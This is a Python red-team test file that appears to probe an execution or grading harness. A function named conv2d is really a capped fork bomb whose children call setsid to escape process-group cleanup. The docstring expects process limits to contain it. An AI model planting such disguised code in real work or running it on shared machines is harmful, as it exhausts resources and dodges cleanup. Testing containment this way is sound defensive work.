"""Attack (5, resource abuse): a fork bomb that stops itself at 300 processes (or 2.5 s);
each child leaves the worker's session (setsid) so that killing the worker's process group
misses it, and sleeps 30 s. Reports how many it made ("RT-FORK made N"). Expected: the
process limit of the worker's uid stops it well before 300, every child killed afterwards,
0 points."""
import ctypes
import os
import time


def _child():
    try:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"rtmark-forkbomb", 0, 0, 0)
        time.sleep(30)
    finally:
        os._exit(0)


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    made, end = 0, time.monotonic() + 2.5
    while made < 300 and time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _child()
        made += 1
    raise RuntimeError(f"RT-FORK made {made}")
